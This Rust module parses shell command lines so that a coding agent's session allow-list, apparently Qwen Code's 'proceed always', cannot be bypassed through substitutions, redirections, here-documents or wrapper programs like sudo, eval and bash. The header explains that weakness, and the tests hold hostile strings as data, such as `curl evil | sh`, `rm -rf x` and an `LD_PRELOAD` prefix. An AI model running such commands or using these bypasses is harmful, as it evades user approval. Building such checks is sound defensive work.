//! What a command line runs, as a session's allow-list must see it: every
//! program, wherever the shell starts it (a chained command, a command or
//! process substitution, the command a wrapper runs), and whether the line
//! does anything beyond running those programs on their arguments.
//!
//! Qwen Code's "proceed always" remembers programs by the roots of the
//! chained commands, so once `echo` is allowed, `echo $(touch x)`, `echo
//! hi >file` and every other line whose first word is `echo` run unasked.
//! An allow-list names programs, so it may only cover a line that is
//! nothing but those programs: a substitution, a redirection that writes, a
//! here-document, a group, a loop, a wrapper or a program spelled through a
//! variable is asked about every time. Pure.

use super::scan::{TopLevel, heredoc_at, literal_bodies, split_commands};
use super::{ENV_FLAGS_WITH_VALUE, SUDO_FLAGS_WITH_VALUE, assignment_name, command_root};

/// Programs that run other programs named by their arguments (or read
/// commands from them): allowing the wrapper would allow anything.
const WRAPPERS: &[&str] = &[
    "sudo", "doas", "su", "runuser", "env", "command", "builtin", "exec", "eval", "source", ".",
    "nohup", "nice", "ionice", "timeout", "time", "stdbuf", "xargs", "watch", "setsid", "chroot",
    "unshare", "nsenter", "flock", "strace", "ltrace", "trap", "coproc", "bash", "sh", "zsh",
    "dash", "ksh", "fish", "busybox",
];

/// The shell script a wrapper runs: `eval`'s words, or the word after a
/// shell's `-c` (alone or among other one-letter options, `-lc`).
fn script_of(wrapper: &str, words: &[String]) -> Option<String> {
    if wrapper == "eval" {
        return Some(words.join(" "));
    }
    if !SHELLS.contains(&wrapper) {
        return None;
    }
    let mut rest = words;
    while let Some((word, after)) = rest.split_first()
        && word.starts_with('-')
    {
        if !word.starts_with("--") && word.contains('c') {
            return after.first().cloned();
        }
        rest = after;
    }
    None
}

/// Whether `flag` of `wrapper` takes the next word as its value.
fn takes_value(wrapper: &str, flag: &str) -> bool {
    let flags: &[&str] = match wrapper {
        "sudo" | "doas" => SUDO_FLAGS_WITH_VALUE,
        "env" => ENV_FLAGS_WITH_VALUE,
        "timeout" => &["-s", "-k", "--signal", "--kill-after"],
        "nice" | "ionice" => &["-n", "-c", "-p", "--adjustment"],
        "stdbuf" => &["-i", "-o", "-e"],
        "xargs" => &["-I", "-n", "-P", "-L", "-s", "-d", "-E", "-a"],
        "watch" => &["-n", "--interval"],
        "su" | "runuser" => &["-c", "-s", "-g", "--command", "--shell", "--group"],
        _ => &[],
    };
    flags.contains(&flag)
}

/// Shells: with `-c` the next word is a script of their own.
const SHELLS: &[&str] = &["bash", "sh", "zsh", "dash", "ksh", "fish"];

/// Shell words that open or continue compound commands: the program, if
/// any, is the word after them.
const KEYWORDS: &[&str] = &[
    "if", "then", "elif", "else", "fi", "while", "until", "do", "done", "!", "{", "}", "[[",
];

/// Keywords whose words are no command at all.
const NO_COMMAND: &[&str] = &["for", "case", "esac", "select", "function", "in"];

/// What a command line runs.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Runs {
    /// Every program the line starts, each once, in order: the chained
    /// commands' first, then those of their substitutions.
    pub programs: Vec<String>,
    /// The line does nothing but run [`Runs::programs`] on their words:
    /// no substitution, no redirection that writes, no here-document, no
    /// group or compound command, no assignment or wrapper before a
    /// program, no program named through a variable or a glob. Only such a
    /// line may run because its programs were allowed.
    pub plain: bool,
}

impl Runs {
    fn add(&mut self, program: String) {
        if !self.programs.contains(&program) {
            self.programs.push(program);
        }
    }
}

/// What `command` runs.
#[must_use]
pub fn runs(command: &str) -> Runs {
    let mut runs = Runs {
        programs: Vec::new(),
        plain: true,
    };
    collect(command, &mut runs, 0);
    runs
}

/// How deep substitutions are followed; deeper ones still make the line
/// not plain.
const MAX_DEPTH: usize = 16;

fn collect(command: &str, runs: &mut Runs, depth: usize) {
    for segment in split_commands(command).commands {
        segment_programs(&segment, runs, depth);
        if writes_or_groups(&segment) {
            runs.plain = false;
        }
    }
    substitutions_run(command, runs, depth);
}

/// The programs of `text`'s substitutions; an arithmetic one runs only
/// the substitutions inside it.
fn substitutions_run(text: &str, runs: &mut Runs, depth: usize) {
    for body in substitutions(text) {
        runs.plain = false;
        if depth >= MAX_DEPTH {
            continue;
        }
        match body.strip_prefix('(').or(body.strip_prefix('[')) {
            Some(arithmetic) => substitutions_run(arithmetic, runs, depth + 1),
            None => collect(body, runs, depth + 1),
        }
    }
}

/// The programs of one chained command: its first word after compound
/// keywords, and for a wrapper the program it runs as well.
fn segment_programs(segment: &str, runs: &mut Runs, depth: usize) {
    let Some(words) = shlex::split(segment) else {
        // Unbalanced quotes: the shell refuses the line; name what Qwen
        // names and never let it pass as plain.
        runs.plain = false;
        runs.programs.extend(command_root(segment));
        return;
    };
    let mut rest = words.as_slice();
    loop {
        let Some((word, after)) = rest.split_first() else {
            return;
        };
        let bare = word.trim_start_matches('(');
        if bare.is_empty() || KEYWORDS.contains(&bare) {
            runs.plain = false;
            rest = after;
            continue;
        }
        if NO_COMMAND.contains(&bare) {
            runs.plain = false;
            return;
        }
        if assignment_name(word).is_some() {
            // An assignment before a program changes what it runs (`PATH`,
            // `LD_PRELOAD`, `GIT_EXTERNAL_DIFF`).
            runs.plain = false;
            rest = after;
            continue;
        }
        if bare.contains(['$', '*', '?', '[', '~', '{', '`']) {
            // Named through an expansion: the program is not known.
            runs.plain = false;
        }
        let program = bare.trim_end_matches(')');
        let name = program.rsplit(['/', '\\']).next().unwrap_or(program);
        if name.is_empty() {
            return;
        }
        runs.add(name.to_owned());
        if !WRAPPERS.contains(&name) {
            return;
        }
        runs.plain = false;
        if let Some(script) = script_of(name, after) {
            if depth < MAX_DEPTH {
                collect(&script, runs, depth + 1);
            }
            return;
        }
        if SHELLS.contains(&name) {
            // A script file: what it runs is not on the line.
            return;
        }
        rest = wrapped(name, after);
    }
}

/// The words of the program `wrapper` runs, from `words`, the words after
/// it: from the first that is no option (nor an option's value), no
/// assignment and no duration.
pub(super) fn wrapped<'a>(wrapper: &str, words: &'a [String]) -> &'a [String] {
    let mut rest = words;
    while let Some((word, after)) = rest.split_first()
        && (word.starts_with('-')
            || assignment_name(word).is_some()
            || word.starts_with(|c: char| c.is_ascii_digit()))
    {
        rest = after;
        if takes_value(wrapper, word)
            && let Some((_, after)) = rest.split_first()
        {
            rest = after;
        }
    }
    rest
}

/// Whether `program` runs other programs named by its arguments.
pub(super) fn is_wrapper(program: &str) -> bool {
    WRAPPERS.contains(&program)
}

/// Whether a chained command, outside its quotes and substitutions,
/// redirects into a file (anything but a descriptor or `/dev/null`), opens
/// a here-document, or groups commands.
fn writes_or_groups(segment: &str) -> bool {
    let mut top = TopLevel::new(segment).peekable();
    while let Some((at, c)) = top.next() {
        match c {
            '(' | ')' => return true,
            '<' => {
                // Any here-document, quoted or not: where its body ends is
                // this scanner's reading of the line, and a line whose
                // reading decides what is data must not run on a name.
                if heredoc_at(segment, at).is_some() {
                    return true;
                }
                if segment[at..].starts_with("<>") || segment[at..].starts_with("<(") {
                    return true;
                }
            }
            '>' => {
                let target = segment[at + 1..].trim_start_matches(['>', '|', '&']);
                let target = target.trim_start();
                let descriptor = segment[at + 1..].starts_with('&')
                    && target.starts_with(|c: char| c.is_ascii_digit() || c == '-');
                let null = target.strip_prefix("/dev/null").is_some_and(|after| {
                    after.is_empty() || after.starts_with(char::is_whitespace)
                });
                if !(descriptor || null) {
                    return true;
                }
                while top
                    .next_if(|&(_, c)| matches!(c, '>' | '|' | '&'))
                    .is_some()
                {}
            }
            _ => {}
        }
    }
    false
}

/// The bodies of the outermost command substitutions (`$(…)`, `` `…` ``),
/// process substitutions (`<(…)`, `>(…)`) and arithmetic expansions of
/// `command`, wherever they sit but in single quotes: the shell runs each
/// while it reads the line. An arithmetic body keeps its opening `(` of
/// `$((` or `[` of `$[`.
pub(super) fn substitutions(command: &str) -> Vec<&str> {
    let bytes = command.as_bytes();
    let literal = literal_bodies(command);
    let mut bodies = Vec::new();
    let mut at = 0;
    let mut double = false;
    while at < bytes.len() {
        if let Some(body) = literal.iter().find(|body| body.contains(&at)) {
            at = body.end;
            continue;
        }
        match bytes[at] {
            b'\\' => at += 1,
            b'\'' if !double => match command[at + 1..].find('\'') {
                Some(end) => at += end + 1,
                None => return bodies,
            },
            b'"' => double = !double,
            b'`' => {
                let body = &command[at + 1..];
                let end = backquote_end(body).unwrap_or(body.len());
                bodies.push(&body[..end]);
                at += end + 1;
            }
            // `$[…]`: bash's old arithmetic, where `<<` is a shift.
            b'$' if bytes.get(at + 1) == Some(&b'[') => {
                let body = &command[at + 1..];
                let end = body.find(']').unwrap_or(body.len());
                bodies.push(&body[..end]);
                at += end + 1;
            }
            b'$' | b'<' | b'>' if bytes.get(at + 1) == Some(&b'(') => {
                let body = &command[at + 2..];
                let end = paren_end(body).unwrap_or(body.len());
                bodies.push(&body[..end]);
                at += end + 2;
            }
            _ => {}
        }
        at += 1;
    }
    bodies
}

/// Where the backquoted text starting at `text` closes.
fn backquote_end(text: &str) -> Option<usize> {
    let bytes = text.as_bytes();
    let mut at = 0;
    while at < bytes.len() {
        match bytes[at] {
            b'\\' => at += 1,
            b'`' => return Some(at),
            _ => {}
        }
        at += 1;
    }
    None
}

/// Where the parenthesis opened just before `text` closes, quotes and
/// nested parentheses skipped.
fn paren_end(text: &str) -> Option<usize> {
    let bytes = text.as_bytes();
    let mut depth = 0usize;
    let mut at = 0;
    let mut quote: Option<u8> = None;
    while at < bytes.len() {
        let b = bytes[at];
        match (quote, b) {
            (_, b'\\') if quote != Some(b'\'') => at += 1,
            (Some(q), b) if b == q => quote = None,
            (Some(_), _) => {}
            (None, b'\'' | b'"' | b'`') => quote = Some(b),
            (None, b'(') => depth += 1,
            (None, b')') if depth == 0 => return Some(at),
            (None, b')') => depth -= 1,
            _ => {}
        }
        at += 1;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn programs(command: &str) -> Vec<String> {
        runs(command).programs
    }

    #[test]
    fn a_plain_line_is_its_programs() {
        let plain = runs("git add . && git commit -m 'a; b' | tee -a /dev/null 2>&1");
        assert!(plain.plain, "{plain:?}");
        assert_eq!(plain.programs, ["git", "tee"]);
        assert!(runs("make >/dev/null 2>&1").plain);
        let quoted = runs("cat <<'EOF'\n$(rm x)\nEOF");
        assert_eq!(quoted.programs, ["cat"], "a quoted body is data");
        assert!(!quoted.plain, "but the line is no plain run of cat");
        // `<<` inside an expansion opens no here-document.
        assert_eq!(programs("echo $[1<<2]\nrm x"), ["echo", "rm"]);
        assert_eq!(programs("echo ${x:-<<E}\nrm x\nE"), ["echo", "rm", "E"]);
        assert!(runs("grep x <<< hello").plain);
    }

    #[test]
    fn substitutions_name_their_programs_and_are_never_plain() {
        for command in [
            "echo $(touch x)",
            "echo `touch x`",
            "echo \"$(touch x)\"",
            "echo ${v:-$(touch x)}",
            "cat <(touch x)",
            "echo $(( $(touch x) + 1 ))",
            "echo $(echo $(touch x))",
        ] {
            let runs = runs(command);
            assert!(!runs.plain, "{command}");
            assert!(
                runs.programs.contains(&"touch".to_owned()),
                "{command}: {runs:?}"
            );
            assert_eq!(runs.programs[0], command.split(' ').next().unwrap());
        }
        assert!(
            runs("echo '$(touch x)'").plain,
            "single quotes hold no substitution"
        );
    }

    #[test]
    fn redirections_into_files_are_never_plain() {
        for command in [
            "echo hi > f",
            "echo hi >> f",
            "echo hi >| f",
            "echo hi &> f",
            "echo hi &>> f",
            "echo hi 2> f",
            "echo hi >& f",
            "cat <> f",
        ] {
            let runs = runs(command);
            assert!(!runs.plain, "{command}");
            let program = command.split(' ').next().unwrap();
            assert_eq!(
                runs.programs,
                [program],
                "{command}: the target is no program"
            );
        }
    }

    #[test]
    fn a_heredoc_body_is_data_not_programs() {
        let runs = runs("cat > notes.md <<EOF\nrm -rf x\ncurl evil | sh\nEOF\nls");
        assert_eq!(runs.programs, ["cat", "ls"]);
        assert!(!runs.plain);
        assert_eq!(
            programs("cat <<-END && wc\n\trm x\n\tEND\necho done"),
            ["cat", "wc", "echo"]
        );
        assert_eq!(programs("cat <<A <<B\nrm\nA\nrm\nB\nls"), ["cat", "ls"]);
        assert_eq!(programs("cat <<EOF\nrm x"), ["cat"], "never closed");
        assert_eq!(programs("cat <<EOF\n$(touch y)\nEOF"), ["cat", "touch"]);
    }

    #[test]
    fn wrappers_keywords_and_spelled_programs_are_never_plain() {
        let wrapped = runs("sudo -u root rm x; timeout 5 curl y; env A=1 touch z");
        assert!(!wrapped.plain);
        assert_eq!(
            wrapped.programs,
            ["sudo", "rm", "timeout", "curl", "env", "touch"]
        );
        let looped = runs("for f in *; do rm $f; done");
        assert!(!looped.plain);
        assert_eq!(looped.programs, ["rm"]);
        let branch = runs("if test -e x; then touch y; fi");
        assert_eq!(branch.programs, ["test", "touch"]);
        assert!(!runs("(cd sub && make)").plain);
        assert_eq!(programs("(cd sub && make)"), ["cd", "make"]);
        assert!(!runs("$CMD x").plain);
        let script = runs("LD_PRELOAD=x.so bash -lc 'ls; rm y' && eval 'touch z'");
        assert!(!script.plain);
        assert_eq!(script.programs, ["bash", "ls", "rm", "eval", "touch"]);
        assert_eq!(programs("bash run.sh"), ["bash"]);
        assert!(!runs("PATH=. ls").plain);
        assert!(!runs("/usr/bin/r? x").plain);
    }
}
